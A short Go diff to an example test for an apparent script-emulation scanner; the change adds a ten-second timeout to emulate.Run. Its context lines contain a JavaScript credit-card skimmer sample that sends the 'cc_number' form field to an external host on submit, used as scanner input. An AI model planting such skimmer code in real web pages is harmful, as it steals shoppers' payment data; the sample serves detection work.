@@ -3,6 +3,7 @@ package emulate_test
 import (
 	"context"
 	"fmt"
+	"time"
 
 	"github.com/shieldscan/shieldscan/scanner/emulate"
 )
@@ -16,7 +17,7 @@ func ExampleRun() {
 		document.forms[0].addEventListener("submit", function () {
 			new Image().src = "https://" + h + "/p?c=" + document.getElementById("cc_number").value;
 		});`)
-	res, err := emulate.Run(context.Background(), script, emulate.Options{})
+	res, err := emulate.Run(context.Background(), script, emulate.Options{Timeout: 10 * time.Second})
 	if err != nil {
 		fmt.Println(err)
 		return
